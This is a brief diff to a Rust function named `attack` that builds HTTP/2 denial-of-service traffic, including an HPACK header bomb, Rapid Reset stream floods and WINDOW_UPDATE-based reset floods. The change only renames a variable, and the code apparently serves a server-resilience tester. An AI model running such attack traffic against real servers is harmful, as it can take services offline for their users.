@@ -50,11 +50,11 @@ fn attack(target: &str) -> anyhow::Result<usize> {
     let bomb =
         [&call_headers(SAY_HELLO)[..], &[0x40, 1, b'x', 3, b'x', b'x', b'x'], &[0xbe; 9_000]];
     let rapid_reset = (0..200).map(|call| 2 * call + 1);
-    let rapid_reset =
-        rapid_reset.flat_map(|it| [request(it), frame(RST_STREAM, 0, it, &[0, 0, 0, 8])]);
+    let rapid_reset = rapid_reset
+        .flat_map(|stream| [request(stream), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])]);
     let made_you_reset = (0..1_100).map(|call| 2 * call + 1);
-    let made_you_reset =
-        made_you_reset.flat_map(|it| [request(it), frame(WINDOW_UPDATE, 0, it, &[0; 4])]);
+    let made_you_reset = made_you_reset
+        .flat_map(|stream| [request(stream), frame(WINDOW_UPDATE, 0, stream, &[0; 4])]);
     let attacks: [(Vec<Vec<u8>>, usize); 10] = [
         (Vec::new(), 0), // sends nothing
         (rapid_reset.collect(), 1),
